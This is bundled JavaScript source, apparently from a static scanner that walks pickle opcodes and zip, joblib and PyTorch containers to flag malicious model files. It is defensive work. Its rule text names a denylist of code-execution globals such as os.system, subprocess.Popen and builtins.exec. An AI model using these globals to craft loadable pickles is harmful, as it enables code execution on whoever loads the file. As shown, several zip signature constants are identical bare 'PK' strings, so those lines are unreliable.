  return error instanceof Error ? error.message : String(error);
}

// src/artifacts/containers/cursor.ts
var WINDOW = 1 << 20;
var ByteCursor = class {
  constructor(source, start2 = 0) {
    this.source = source;
    this.position = start2;
  }
  source;
  buffer = new Uint8Array(0);
  bufferStart = 0;
  position;
  get remaining() {
    return Math.max(0, this.source.size - this.position);
  }
  /** Makes `count` bytes from the position available; false at end of source. */
  async need(count) {
    if (this.position + count > this.source.size) return false;
    const offset = this.position - this.bufferStart;
    if (offset >= 0 && offset + count <= this.buffer.length) return true;
    this.buffer = await readRange(this.source, this.position, Math.max(WINDOW, count));
    this.bufferStart = this.position;
    return this.buffer.length >= count;
  }
  /** Bytes at the position; only valid after a successful need(count). */
  peek(count) {
    const offset = this.position - this.bufferStart;
    return this.buffer.subarray(offset, offset + count);
  }
  async take(count) {
    if (!await this.need(count)) return null;
    const bytes = this.peek(count);
    this.position += count;
    return bytes;
  }
  /** Bytes up to (not including) the next newline, consuming the newline; null if none within `max`. */
  async line(max) {
    const available = Math.min(max + 1, this.remaining);
    if (!await this.need(available)) return null;
    const window2 = this.peek(available);
    const end = window2.indexOf(10);
    if (end < 0) return null;
    this.position += end + 1;
    return window2.subarray(0, end);
  }
};

// src/artifacts/containers/pickle-walk.ts
var OTHER = { t: "other" };
var MAX_LINE = 1 << 16;
var MAX_MEMO = 1 << 20;
var MAX_CONTAINER_ITEMS = 1 << 16;
var MAX_STACK = 1 << 20;
var MAX_TRACKED_STRING = 1 << 16;
var SKIPPED = new Uint8Array(0);
var LARGE_STRING = 1 << 20;
async function walkPickle(cursor, maxOpcodes, hooks = {}) {
  const stack = [];
  const memo = /* @__PURE__ */ new Map();
  let opcodes = 0;
  const fail = (message15, offset) => ({ end: null, error: { message: message15, offset }, opcodes });
  const pop = () => stack.pop() ?? OTHER;
  const popToMark = () => {
    const items = [];
    while (stack.length > 0) {
      const value = stack.pop();
      if (value.t === "mark") break;
      if (items.length < MAX_CONTAINER_ITEMS) items.push(value);
    }
    return items.reverse();
  };
  const setMemo = (key, value) => {
    if (memo.size < MAX_MEMO || memo.has(key)) memo.set(key, value);
  };
  const sized = async (lengthBytes, read) => {
    const lengthField = cursor.position;
    const head = await cursor.take(lengthBytes);
    if (!head) return null;
    const length = read(head);
    if (!Number.isFinite(length) || length < 0) return null;
    if (length <= MAX_TRACKED_STRING) return cursor.take(length);
    if (cursor.position + length > cursor.source.size) return null;
    if (length > LARGE_STRING) hooks.largeString?.({ lengthField, lengthSize: lengthBytes, payload: cursor.position, length });
    cursor.position += length;
    return SKIPPED;
  };
  while (opcodes < maxOpcodes) {
    const at = cursor.position;
    if (stack.length > MAX_STACK) return fail(`stack deeper than ${MAX_STACK} entries`, at);
    const opBytes = await cursor.take(1);
    if (!opBytes) return fail("pickle ends without STOP", at);
    const op = opBytes[0];
    opcodes++;
    switch (op) {
      case 46:
        return { end: cursor.position, value: stack[stack.length - 1] ?? OTHER, opcodes };
      case 128:
        if (!await cursor.take(1)) return fail("truncated PROTO", at);
        break;
      case 149:
        if (!await cursor.take(8)) return fail("truncated FRAME", at);
        break;
      case 40:
        stack.push({ t: "mark" });
        break;
      case 78:
        stack.push({ t: "none" });
        break;
      case 136:
      // NEWTRUE
      case 137:
        stack.push({ t: "bool", v: op === 136 });
        break;
      case 74: {
        const b = await cursor.take(4);
        if (!b) return fail("truncated BININT", at);
        stack.push({ t: "int", v: i32le(b, 0) });
        break;
      }
      case 75: {
        const b = await cursor.take(1);
        if (!b) return fail("truncated BININT1", at);
        stack.push({ t: "int", v: b[0] });
        break;
      }
      case 77: {
        const b = await cursor.take(2);
        if (!b) return fail("truncated BININT2", at);
        stack.push({ t: "int", v: u16le(b, 0) });
        break;
      }
      case 138:
      // LONG1
      case 139: {
        const body2 = await sized(op === 138 ? 1 : 4, (h) => op === 138 ? h[0] : u32le(h, 0));
        if (!body2) return fail("truncated LONG", at);
        stack.push(smallLong(body2));
        break;
      }
      case 73:
      // INT
      case 76: {
        const line = await cursor.line(MAX_LINE);
        if (!line) return fail("unterminated INT/LONG", at);
        const text = latin1(line).replace(/L$/, "");
        if (op === 73 && (text === "00" || text === "01")) stack.push({ t: "bool", v: text === "01" });
        else stack.push(/^-?\d{1,15}$/.test(text) ? { t: "int", v: Number(text) } : OTHER);
        break;
      }
      case 70:
      // FLOAT
      case 83:
      // STRING
      case 86: {
        const line = await cursor.line(MAX_LINE);
        if (!line) return fail("unterminated text argument", at);
        if (op === 70) stack.push(OTHER);
        else stack.push({ t: "str", v: op === 83 ? latin1(line).replace(/^(['"])(.*)\1$/s, "$2") : latin1(line) });
        break;
      }
      case 71:
        if (!await cursor.take(8)) return fail("truncated BINFLOAT", at);
        stack.push(OTHER);
        break;
      case 84:
      // BINSTRING
      case 66:
      // BINBYTES
      case 88: {
        const body2 = await sized(4, (h) => u32le(h, 0));
        if (!body2) return fail("truncated string", at);
        stack.push({ t: "str", v: op === 88 ? utf8(body2) : latin1(body2) });
        break;
      }
      case 85:
      // SHORT_BINSTRING
      case 67:
      // SHORT_BINBYTES
      case 140: {
        const body2 = await sized(1, (h) => h[0]);
        if (!body2) return fail("truncated string", at);
        stack.push({ t: "str", v: op === 140 ? utf8(body2) : latin1(body2) });
        break;
      }
      case 141:
      // BINUNICODE8
      case 142:
      // BINBYTES8
      case 150: {
        const body2 = await sized(8, (h) => u64le(h, 0));
        if (!body2) return fail("truncated string", at);
        stack.push(op === 141 ? { t: "str", v: utf8(body2) } : OTHER);
        break;
      }
      case 41:
        stack.push({ t: "tuple", items: [] });
        break;
      case 116:
        stack.push({ t: "tuple", items: popToMark() });
        break;
      case 133:
      // TUPLE1
      case 134:
      // TUPLE2
      case 135: {
        const count = op - 132;
        const items = stack.splice(Math.max(0, stack.length - count), count);
        stack.push({ t: "tuple", items });
        break;
      }
      case 93:
      // EMPTY_LIST
      case 143:
        stack.push(OTHER);
        break;
      case 108:
      // LIST
      case 145:
        popToMark();
        stack.push(OTHER);
        break;
      case 97:
        pop();
        break;
      case 101:
      // APPENDS
      case 144:
        popToMark();
        break;
      case 125:
        stack.push({ t: "dict", entries: /* @__PURE__ */ new Map() });
        break;
      case 100: {
        const items = popToMark();
        const dict = { t: "dict", entries: /* @__PURE__ */ new Map() };
        for (let i2 = 0; i2 + 1 < items.length; i2 += 2) setEntry(dict, items[i2], items[i2 + 1]);
        stack.push(dict);
        break;
      }
      case 115: {
        const value = pop();
        const key = pop();
        setEntry(stack[stack.length - 1], key, value);
        break;
      }
      case 117: {
        const items = popToMark();
        for (let i2 = 0; i2 + 1 < items.length; i2 += 2) setEntry(stack[stack.length - 1], items[i2], items[i2 + 1]);
        break;
      }
      case 48:
        pop();
        break;
      case 49:
        popToMark();
        break;
      case 50:
        stack.push(stack[stack.length - 1] ?? OTHER);
        break;
      case 99: {
        const module2 = await cursor.line(MAX_LINE);
        const name2 = module2 && await cursor.line(MAX_LINE);
        if (!module2 || !name2) return fail("unterminated GLOBAL", at);
        stack.push({ t: "global", name: `${latin1(module2)}.${latin1(name2)}` });
        break;
      }
      case 147: {
        const name2 = pop();
        const module2 = pop();
        stack.push(
          module2.t === "str" && name2.t === "str" ? { t: "global", name: `${module2.v}.${name2.v}` } : OTHER
        );
        break;
      }
      case 105: {
        const module2 = await cursor.line(MAX_LINE);
        const name2 = module2 && await cursor.line(MAX_LINE);
        if (!module2 || !name2) return fail("unterminated INST", at);
        const args2 = popToMark();
        stack.push({ t: "obj", cls: `${latin1(module2)}.${latin1(name2)}`, args: { t: "tuple", items: args2 } });
        break;
      }
      case 111: {
        const items = popToMark();
        const cls = items.shift();
        stack.push({ t: "obj", cls: cls?.t === "global" ? cls.name : "?", args: { t: "tuple", items } });
        break;
      }
      case 82:
      // REDUCE
      case 129: {
        const args2 = pop();
        const callable = pop();
        stack.push({ t: "obj", cls: callable.t === "global" ? callable.name : "?", args: args2 });
        break;
      }
      case 146: {
        pop();
        const args2 = pop();
        const cls = pop();
        stack.push({ t: "obj", cls: cls.t === "global" ? cls.name : "?", args: args2 });
        break;
      }
      case 98: {
        const state = pop();
        const target = stack[stack.length - 1];
        if (target?.t === "obj") target.state = state;
        if (hooks.afterBuild && target) {
          const skip = await hooks.afterBuild(target, cursor.position, cursor);
          if (skip < 0) return fail("raw data after BUILD could not be sized", at);
          if (skip > 0) {
            if (cursor.position + skip > cursor.source.size) return fail("raw data after BUILD is truncated", at);
            cursor.position += skip;
            stack[stack.length - 1] = OTHER;
          }
        }
        break;
      }
      case 103:
      // GET
      case 112: {
        const line = await cursor.line(MAX_LINE);
        if (!line) return fail("unterminated GET/PUT", at);
        const key = Number(latin1(line));
        if (op === 103) stack.push(memo.get(key) ?? OTHER);
        else setMemo(key, stack[stack.length - 1] ?? OTHER);
        break;
      }
      case 104:
      // BINGET
      case 106:
      // LONG_BINGET
      case 113:
      // BINPUT
      case 114: {
        const wide = op === 106 || op === 114;
        const b = await cursor.take(wide ? 4 : 1);
        if (!b) return fail("truncated memo opcode", at);
        const key = wide ? u32le(b, 0) : b[0];
        if (op === 104 || op === 106) stack.push(memo.get(key) ?? OTHER);
        else setMemo(key, stack[stack.length - 1] ?? OTHER);
        break;
      }
      case 148:
        setMemo(memo.size, stack[stack.length - 1] ?? OTHER);
        break;
      case 80:
        if (!await cursor.line(MAX_LINE)) return fail("unterminated PERSID", at);
        stack.push(OTHER);
        break;
      case 81:
        pop();
        stack.push(OTHER);
        break;
      case 130:
      // EXT1
      case 131:
      // EXT2
      case 132:
        if (!await cursor.take(op === 130 ? 1 : op === 131 ? 2 : 4)) return fail("truncated EXT", at);
        stack.push(OTHER);
        break;
      case 151:
        stack.push(OTHER);
        break;
      case 152:
        break;
      default:
        return fail(`unknown opcode 0x${op.toString(16).padStart(2, "0")}`, at);
    }
  }
  return fail(`stopped after ${maxOpcodes} opcodes`, cursor.position);
}
function setEntry(target, key, value) {
  if (target?.t !== "dict" || key.t !== "str") return;
  if (target.entries.size < MAX_CONTAINER_ITEMS) target.entries.set(key.v, value);
}
function smallLong(body2) {
  if (body2.length === 0) return { t: "int", v: 0 };
  if (body2.length > 6) return body2.length === 8 ? maybe(i64le(body2, 0)) : OTHER;
  let value = 0;
  for (let i2 = body2.length - 1; i2 >= 0; i2--) value = value * 256 + body2[i2];
  if (body2[body2.length - 1] & 128) value -= 2 ** (8 * body2.length);
  return { t: "int", v: value };
}
function maybe(value) {
  return Number.isNaN(value) ? OTHER : { t: "int", v: value };
}

// src/artifacts/containers/joblib.ts
async function locateJoblibArrays(source, start2, maxOpcodes) {
  const arrays = [];
  const largeStrings = [];
  const cursor = new ByteCursor(source, start2);
  let sizingError;
  const result2 = await walkPickle(cursor, maxOpcodes, {
    async afterBuild(built, next, inner) {
      if (built.t !== "obj" || !isArrayWrapper(built.cls)) return 0;
      const sized = await sizeArray(built, next, inner, maxOpcodes);
      if (typeof sized === "string") {
        sizingError = sized;
        return -1;
      }
      arrays.push(sized);
      return sized.length;
    },
    largeString: (region2) => largeStrings.push(region2)
  });
  const error = result2.error && sizingError ? { ...result2.error, message: sizingError } : result2.error;
  return { arrays, largeStrings, end: result2.end, ...error ? { error } : {} };
}
function isArrayWrapper(cls) {
  return cls.endsWith("numpy_pickle.NumpyArrayWrapper");
}
async function sizeArray(wrapper, offset, cursor, maxOpcodes) {
  const state = wrapper.state?.t === "dict" ? wrapper.state.entries : void 0;
  if (!state) return "joblib array wrapper without a state dict";
  const dtype = describeDtype(state.get("dtype"));
  if (!dtype) return "joblib array wrapper with an unrecognised dtype";
  const shapeValue = state.get("shape");
  const shape = shapeValue?.t === "tuple" && shapeValue.items.every((i2) => i2.t === "int" && i2.v >= 0) ? shapeValue.items.map((i2) => i2.v) : null;
  if (!shape) return "joblib array wrapper with an unreadable shape";
  if (dtype.object) {
    const nested = await walkPickle(new ByteCursor(cursor.source, offset), maxOpcodes);
    if (nested.end === null) return `joblib object array pickle is broken: ${nested.error?.message ?? "no STOP"}`;
    return { offset, length: nested.end - offset, dtype: dtype.code, shape, objectPickle: true };
  }
  const count = shape.reduce((a, b) => a * b, 1);
  const bytes = count * dtype.itemsize;
  if (!Number.isSafeInteger(bytes)) return "joblib array size overflows";
  let padding = 0;
  const alignment = state.get("numpy_array_alignment_bytes");
  if (alignment && alignment.t !== "none") {
    const padByte = await cursor.take(1);
    cursor.position = offset;
    if (!padByte) return "joblib array padding byte is missing";
    padding = 1 + padByte[0];
  }
  return { offset, length: padding + bytes, dtype: dtype.code, shape, objectPickle: false };
}
function describeDtype(value) {
  if (value?.t !== "obj" || !/(^|\.)dtype$/.test(value.cls)) return null;
  const code3 = value.args?.t === "tuple" && value.args.items[0]?.t === "str" ? value.args.items[0].v : null;
  if (code3 === null) return null;
  const state = value.state?.t === "tuple" ? value.state.items : [];
  const fields = state[3];
  if (fields && fields.t !== "none") return null;
  const match = /^[<>|=]?([a-zA-Z])(\d*)/.exec(code3);
  if (!match) return null;
  const kind = match[1];
  if (kind === "O") return { code: code3, itemsize: 8, object: true };
  let itemsize = match[2] ? Number(match[2]) : 0;
  if (kind === "U") itemsize *= 4;
  if (kind === "M" || kind === "m") itemsize = itemsize || 8;
  if (kind === "V" && itemsize === 0) {
    const elsize = state[5];
    itemsize = elsize?.t === "int" && elsize.v > 0 ? elsize.v : 0;
  }
  if (kind === "?" || kind === "b" && itemsize === 0) itemsize = 1;
  if (!(itemsize > 0)) return null;
  return { code: code3, itemsize, object: false };
}

// src/artifacts/containers/torch-legacy.ts
var MAGIC_LONG1 = [138, 10, 108, 252, 156, 70, 249, 32, 106, 168, 80, 25];
var LEGACY_STACKED_PICKLES = 5;
function isLegacyTorchMagic(firstPickle) {
  return indexOf(firstPickle.subarray(0, 32), MAGIC_LONG1) >= 0;
}
var ELEMENT_SIZES = {
  DoubleStorage: 8,
  FloatStorage: 4,
  HalfStorage: 2,
  LongStorage: 8,
  IntStorage: 4,
  ShortStorage: 2,
  CharStorage: 1,
  ByteStorage: 1,
  BoolStorage: 1,
  BFloat16Storage: 2,
  ComplexFloatStorage: 8,
  ComplexDoubleStorage: 16,
  QInt8Storage: 1,
  QUInt8Storage: 1,
  QInt32Storage: 4
};
var MAX_RECORDS = 1 << 20;
async function locateLegacyStorages(source, maxOpcodes) {
  return walkRecords(source, maxOpcodes, "storage", async (value, cursor) => {
    const type = value?.t === "tuple" ? value.items[2] : void 0;
    const typeName2 = type?.t === "global" ? type.name.slice(type.name.lastIndexOf(".") + 1) : "";
    const elementSize = ELEMENT_SIZES[typeName2];
    if (!elementSize) return `unknown storage type ${typeName2 || "(untracked)"}`;
    const sizeBytes = await cursor.take(8);
    const count = sizeBytes ? i64le(sizeBytes, 0) : Number.NaN;
    if (!(count >= 0)) return "storage size is missing or invalid";
    return count * elementSize;
  });
}
async function locateLegacyTensors(source, maxOpcodes) {
  return walkRecords(source, maxOpcodes, "tensor", async (_value, cursor) => {
    const head = await cursor.take(8);
    const ndim = head ? i32le(head, 0) : -1;
    if (ndim < 0 || ndim > 64) return "tensor rank is missing or invalid";
    return 16 * ndim + 8;
  });
}
async function walkRecords(source, maxOpcodes, what, skipAfter) {
  const layout = { pickles: [], warnings: [] };
  const cursor = new ByteCursor(source, 0);
  const countWalk = await walkPickle(cursor, maxOpcodes);
  if (countWalk.end === null) {
    layout.warnings.push(`${what} count pickle is broken: ${countWalk.error?.message ?? "no STOP"}`);
    layout.pickles.push({ start: 0, end: source.size, label: `${what} count` });
    return layout;
  }
  layout.pickles.push({ start: 0, end: countWalk.end, label: `${what} count` });
  const count = countWalk.value?.t === "int" ? countWalk.value.v : -1;
  if (count < 0) {
    layout.warnings.push(`${what} count is not an integer; the rest of the member was not inspected`);
    return layout;
  }
  for (let i2 = 0; i2 < Math.min(count, MAX_RECORDS); i2++) {
    const start2 = cursor.position;
    if (start2 >= source.size) {
      layout.warnings.push(`${what} records end after ${i2} of ${count}`);
      break;
    }
    const walk = await walkPickle(cursor, maxOpcodes);
    layout.pickles.push({ start: start2, end: walk.end ?? source.size, label: `${what} ${i2}` });
    if (walk.end === null) {
      layout.warnings.push(`${what} ${i2} pickle is broken: ${walk.error?.message ?? "no STOP"}`);
      break;
    }
    const skip = await skipAfter(walk.value, cursor);
    if (typeof skip === "string") {
      layout.warnings.push(`${what} ${i2}: ${skip}; the rest of the member was not inspected`);
      break;
    }
    cursor.position += skip;
  }
  return layout;
}

// src/artifacts/containers/zip.ts
var LOCAL_SIG = ascii("PK");
var CENTRAL_SIG = ascii("PK");
var EOCD_SIG = ascii("PK");
var ZIP64_EOCD_SIG = ascii("PK");
var ZIP64_LOCATOR_SIG = ascii("PK\x07");
var DESCRIPTOR_SIG = ascii("PK\x07\b");
var EOCD_SEARCH = 22 + 65535;
var MAX_CENTRAL_DIRECTORY = 64 << 20;
var SCAN_CHUNK = 1 << 20;
var METHOD_STORED = 0;
var METHOD_DEFLATE = 8;
var METHOD_BZIP2 = 12;
var METHOD_LZMA = 14;
function zipLzmaAsAlone(member, uncompressedSize) {
  if (member.length < 4) return null;
  const propsSize = u16le(member, 2);
  if (propsSize !== 5 || member.length < 4 + propsSize) return null;
  const out2 = new Uint8Array(5 + 8 + member.length - 9);
  out2.set(member.subarray(4, 9), 0);
  let size = Number.isSafeInteger(uncompressedSize) && uncompressedSize >= 0 && uncompressedSize !== 4294967295 ? uncompressedSize : -1;
  for (let i2 = 0; i2 < 8; i2++) {
    out2[5 + i2] = size < 0 ? 255 : size % 256;
    if (size >= 0) size = Math.floor(size / 256);
  }
  out2.set(member.subarray(9), 13);
  return out2;
}
async function readZipDirectory(source, options) {
  const warnings = [];
  const eocd = await findEocd(source, warnings);
  if (!eocd) return null;
  const delta = await locateCentralDirectory(source, eocd);
  if (delta === null) {
    warnings.push("zip central directory not found where the end record points; walking local headers instead");
    const walked = await walkLocalHeaders(source, 0, options);
    walked.warnings.unshift(...warnings);
    return walked;
  }
  const cdStart = eocd.cdOffset + delta;
  let cdSize = Math.min(eocd.cdSize, source.size - cdStart);
  if (cdSize > MAX_CENTRAL_DIRECTORY) {
    warnings.push(`zip central directory of ${eocd.cdSize} bytes exceeds ${MAX_CENTRAL_DIRECTORY}; reading its start only`);
    cdSize = MAX_CENTRAL_DIRECTORY;
  }
  const cd = await readRange(source, cdStart, cdSize);
  const directory = { entries: [], archiveStart: delta, fromCentralDirectory: true, warnings, tricks: [] };
  let at = 0;
  while (at + 46 <= cd.length && startsWith(cd, CENTRAL_SIG, at)) {
    if (directory.entries.length >= options.maxEntries) {
      warnings.push(`zip has more than ${options.maxEntries} entries; the rest were not inspected`);
      break;
    }
    const nameLength = u16le(cd, at + 28);
    const extraLength = u16le(cd, at + 30);
    const commentLength = u16le(cd, at + 32);
    const end = at + 46 + nameLength + extraLength + commentLength;
    if (end > cd.length) {
      warnings.push("zip central directory is truncated");
      break;
    }
    const name2 = utf8(cd.subarray(at + 46, at + 46 + nameLength));
    let compressedSize = u32le(cd, at + 20);
    let uncompressedSize = u32le(cd, at + 24);
    let localHeaderOffset = u32le(cd, at + 42);
    const extra = cd.subarray(at + 46 + nameLength, at + 46 + nameLength + extraLength);
    const wide = readZip64Extra(extra, {
      uncompressed: uncompressedSize === 4294967295,
      compressed: compressedSize === 4294967295,
      offset: localHeaderOffset === 4294967295
    });
    uncompressedSize = wide.uncompressed ?? uncompressedSize;
    compressedSize = wide.compressed ?? compressedSize;
    localHeaderOffset = (wide.offset ?? localHeaderOffset) + delta;
    const entry = {
      name: name2,
      method: u16le(cd, at + 10),
      compressedSize,
      uncompressedSize,
      localHeaderOffset,
      dataOffset: -1
    };
    await attachLocalHeader(source, entry, directory);
    directory.entries.push(entry);
    at = end;
  }
  if (directory.entries.length < eocd.entries && directory.entries.length < options.maxEntries) {
    warnings.push(`zip end record announces ${eocd.entries} entries, central directory holds ${directory.entries.length}`);
  }
  flagDuplicateNames(directory);
  return directory;
}
async function findEocd(source, warnings) {
  const tailStart = Math.max(0, source.size - EOCD_SEARCH);
  const tail = await readRange(source, tailStart, source.size - tailStart);
  let candidate = lastIndexOf(tail, EOCD_SIG);
  let fallback = -1;
  while (candidate >= 0) {
    if (candidate + 22 <= tail.length) {
      if (candidate + 22 + u16le(tail, candidate + 20) === tail.length) break;
      if (fallback < 0) fallback = candidate;
    }
    candidate = lastIndexOf(tail, EOCD_SIG, candidate - 1);
  }
  if (candidate < 0) candidate = fallback;
  if (candidate < 0) return null;
  const position = tailStart + candidate;
  const eocd = {
    position,
    entries: u16le(tail, candidate + 10),
    cdSize: u32le(tail, candidate + 12),
    cdOffset: u32le(tail, candidate + 16),
    recordPosition: position
  };
  if (candidate >= 20 && startsWith(tail, ZIP64_LOCATOR_SIG, candidate - 20)) {
    const claimed = u64le(tail, candidate - 20 + 8);
    const guesses = [claimed, position - 20 - 56].filter((p) => Number.isFinite(p) && p >= 0 && p + 56 <= source.size);
    for (const at of guesses) {
      const record = await readRange(source, at, 56);
      if (!startsWith(record, ZIP64_EOCD_SIG)) continue;
      eocd.entries = u64le(record, 32);
      eocd.cdSize = u64le(record, 40);
      eocd.cdOffset = u64le(record, 48);
      eocd.recordPosition = at;
      break;
    }
    if (eocd.recordPosition === position) warnings.push("zip64 locator present but its end record was not found");
  }
  return eocd;
}
async function locateCentralDirectory(source, eocd) {
  const shifted = eocd.recordPosition - eocd.cdSize - eocd.cdOffset;
  const candidates = [shifted, 0].filter((d, i2, all) => all.indexOf(d) === i2);
  for (const delta of candidates) {
    const at = eocd.cdOffset + delta;
    if (!Number.isFinite(at) || at < 0 || at + 4 > source.size) continue;
    if (eocd.cdSize === 0 && eocd.entries === 0) return delta;
    if (startsWith(await readRange(source, at, 4), CENTRAL_SIG)) return delta;
  }
  return null;
}
function readZip64Extra(extra, need) {
  for (let at = 0; at + 4 <= extra.length; ) {
    const id = u16le(extra, at);
    const size = u16le(extra, at + 2);
    const body2 = extra.subarray(at + 4, Math.min(extra.length, at + 4 + size));
    if (id === 1) {
      const out2 = {};
      let p = 0;
      for (const field of ["uncompressed", "compressed", "offset"]) {
        if (!need[field]) continue;
        if (p + 8 > body2.length) break;
        out2[field] = u64le(body2, p);
        p += 8;
      }
      return out2;
    }
    at += 4 + size;
  }
  return {};
}
async function attachLocalHeader(source, entry, directory) {
  const at = entry.localHeaderOffset;
  if (!Number.isFinite(at) || at < 0 || at + 30 > source.size) {
    directory.warnings.push(`zip member ${entry.name}: local header offset ${at} is outside the file`);
    return;
  }
  const head = await readRange(source, at, 30);
  if (!startsWith(head, LOCAL_SIG)) {
    directory.warnings.push(`zip member ${entry.name}: no local header at offset ${at}`);
    return;
  }
  const nameLength = u16le(head, 26);
  const extraLength = u16le(head, 28);
  entry.localName = utf8(await readRange(source, at + 30, nameLength));
  entry.dataOffset = at + 30 + nameLength + extraLength;
  if (entry.localName !== entry.name) {
    directory.tricks.push({
      member: entry.name,
      message: `zip member named "${entry.name}" in the central directory but "${entry.localName}" in its local header`
    });
  }
  const localMethod = u16le(head, 8);
  if (localMethod !== entry.method) {
    directory.tricks.push({
      member: entry.name,
      message: `zip member ${entry.name}: compression method ${entry.method} in the central directory but ${localMethod} locally`
    });
  }
}
function flagDuplicateNames(directory) {
  const seen = /* @__PURE__ */ new Set();
  for (const entry of directory.entries) {
    if (seen.has(entry.name)) {
      directory.tricks.push({ member: entry.name, message: `zip holds more than one member named "${entry.name}"` });
    }
    seen.add(entry.name);
  }
}
async function walkLocalHeaders(source, start2, options) {
  const directory = { entries: [], archiveStart: start2, fromCentralDirectory: false, warnings: [], tricks: [] };
  let at = start2;
  while (at + 30 <= source.size) {
    const head = await readRange(source, at, 30);
    if (!startsWith(head, LOCAL_SIG)) break;
    if (directory.entries.length >= options.maxEntries) {
      directory.warnings.push(`zip has more than ${options.maxEntries} entries; the rest were not inspected`);
      break;
    }
    const nameLength = u16le(head, 26);
    const extraLength = u16le(head, 28);
    const name2 = utf8(await readRange(source, at + 30, nameLength));
    const extra = await readRange(source, at + 30 + nameLength, extraLength);
    let compressedSize = u32le(head, 18);
    let uncompressedSize = u32le(head, 22);
    const wide = readZip64Extra(extra, {
      uncompressed: uncompressedSize === 4294967295,
      compressed: compressedSize === 4294967295,
      offset: false
    });
    compressedSize = wide.compressed ?? compressedSize;
    uncompressedSize = wide.uncompressed ?? uncompressedSize;
    const dataOffset = at + 30 + nameLength + extraLength;
    const hasDescriptor = (u16le(head, 6) & 8) !== 0;
    let next;
    if (hasDescriptor && compressedSize === 0) {
      const end = await findNextSignature(source, dataOffset);
      compressedSize = end - dataOffset;
      next = end;
      if (startsWith(await readRange(source, end, 4), DESCRIPTOR_SIG)) next = end + 16;
    } else {
      next = dataOffset + compressedSize;
    }
    if (dataOffset + compressedSize > source.size) {
      directory.warnings.push(`zip member ${name2} is truncated`);
      compressedSize = Math.max(0, source.size - dataOffset);
    }
    directory.entries.push({
      name: name2,
      localName: name2,
      method: u16le(head, 8),
      compressedSize,
      uncompressedSize,
      localHeaderOffset: at,
      dataOffset
    });
    if (!(next > at)) break;
    at = next;
  }
  if (directory.entries.length > 0) {
    directory.warnings.push("zip end-of-central-directory record missing or unusable; members found by walking local headers");
  }
  flagDuplicateNames(directory);
  return directory;
}
async function findNextSignature(source, from) {
  for (let at = from; at < source.size; at += SCAN_CHUNK - 3) {
    const chunk = await readRange(source, at, SCAN_CHUNK);
    const hits = [LOCAL_SIG, CENTRAL_SIG, DESCRIPTOR_SIG].map((sig) => indexOf(chunk, sig)).filter((hit) => hit >= 0);
    if (hits.length > 0) return at + Math.min(...hits);
    if (chunk.length < SCAN_CHUNK) break;
  }
  return source.size;
}

// src/artifacts/rules.ts
var COMPLIANCE = [
  { framework: "OWASP Top 10 2021", control: "A08:2021 Software and Data Integrity Failures" },
  { framework: "CWE Top 25", control: "CWE-502 Deserialization of Untrusted Data" },
  { framework: "NIST SP 800-53 Rev. 5", control: "SI-7 Software, Firmware, and Information Integrity" },
  { framework: "NIST SP 800-218 (SSDF)", control: "PW.4.1 Acquire and maintain well-secured components" },
  { framework: "PCI DSS 4.0", control: "6.2.4 Software engineering techniques prevent common attacks" }
];
var REFERENCES = [
  { title: "CWE-502: Deserialization of Untrusted Data", url: "https://cwe.mitre.org/data/definitions/502.html" },
  { title: "OWASP A08:2021 Software and Data Integrity Failures", url: "https://owasp.org/Top10/A08_2021-Software_and_Data_Integrity_Failures/" },
  { title: "Python docs: pickle, Restricting Globals", url: "https://docs.python.org/3/library/pickle.html#restricting-globals" },
  { title: "PyTorch docs: torch.load and weights_only", url: "https://pytorch.org/docs/stable/generated/torch.load.html" },
  { title: "Hugging Face: Pickle scanning", url: "https://huggingface.co/docs/hub/security-pickle" },
  { title: "safetensors", url: "https://github.com/huggingface/safetensors" }
];
var SAFE_EXAMPLE = [
  "# Load tensors only: weights_only refuses every global outside PyTorch's allowlist",
  'state = torch.load("model.pt", weights_only=True)',
  "",
  "# Better: a format that cannot run code",
  "from safetensors.torch import load_file",
  'state = load_file("model.safetensors")'
].join("\n");
var COMMON_FAQ = [
  {
    question: "Does Pathfinder load or unpickle the file?",
    answer: "No. It reads the bytes and interprets pickle opcodes symbolically; nothing is imported or executed, and tensor data is skipped without being read."
  },
  {
    question: "The file is named .pt/.bin/.npy; why is it treated as a zip, tar or pickle?",
    answer: "Loaders decide by content, not by name, so Pathfinder does too. The extension is only a hint for which files to look at."
  }
];
var SCOPE = "Raw pickles (protocols 0-5, stacked streams), zip archives read through our own central-directory parser (zip64, prepended data, missing end record, name mismatches, stored/deflate/bzip2/LZMA members, every member that parses as a pickle), PyTorch zip checkpoints (`*/data.pkl`, tensor members skipped), legacy PyTorch stacked and tar checkpoints, .npy/.npz object arrays, joblib files (zlib/gzip/bz2/xz/lzma compression, inline array bytes skipped by declared size, object-array pickles), and gzip/bz2/xz/lzma-wrapped pickles. Large inline byte strings and tensor data are skipped by their declared sizes, so multi-GB files are never read whole; decompression is bounded by `maxDecompressedBytes`. 7z, RAR, zstd and LZ4 archives (and zip members compressed with other methods) are reported as uninspectable.";
function artifactRule(meta) {
  return {
    id: meta.id,
    name: meta.name,
    language: "artifact",
    severity: meta.severity,
    confidence: meta.confidence,
    precision: meta.precision,
    cwe: ["CWE-502"],
    owasp: ["A08:2021"],
    compliance: COMPLIANCE,
    tags: ["pickle", "deserialization", "artifact", "ml", "supply-chain", ...meta.tags],
    bundles: ["artifacts"],
    banditIds: [],
    similar: meta.similar,
    docs: {
      ...meta.docs,
      safeExample: meta.docs.safeExample ?? SAFE_EXAMPLE,
      detectionScope: SCOPE,
      references: REFERENCES,
      faq: [...meta.docs.faq ?? [], ...COMMON_FAQ]
    }
  };
}
var PICKLE_ARTIFACT_DANGEROUS_CALL = artifactRule({
  id: "PICKLE-ARTIFACT-001",
  name: "Pickle Artifact Calls a Dangerous Global",
  severity: "critical",
  confidence: "high",
  precision: "very-high",
  tags: ["code-execution"],
  similar: ["PICKLE-ARTIFACT-002", "PICKLE-ARTIFACT-003"],
  docs: {
    summary: "A pickle inside this file calls a function that can run code, spawn processes or touch files when it is loaded.",
    description: "Unpickling executes the opcodes in the file. `REDUCE`, `NEWOBJ`, `OBJ`, `INST` and `BUILD` call whatever global the pickle imported, with arguments the pickle chose. This file calls a global on the denylist (for example `os.system`, `subprocess.Popen`, `builtins.exec`, `builtins.eval`, `runpy._run_code`), so loading it with `pickle.load`, `torch.load(weights_only=False)`, `joblib.load` or `np.load(allow_pickle=True)` runs that call.",
    securityImplications: "Arbitrary code execution with the privileges of whoever loads the file: credential theft, lateral movement from training or inference hosts, tampered models. This is the classic malicious-model supply-chain attack.",
    howToFix: "Do not load the file. Obtain the artifact from a trusted source and verify it (hash or signature). Convert models to safetensors or ONNX, load PyTorch checkpoints with `weights_only=True`, and keep `allow_pickle=False` for NumPy.",
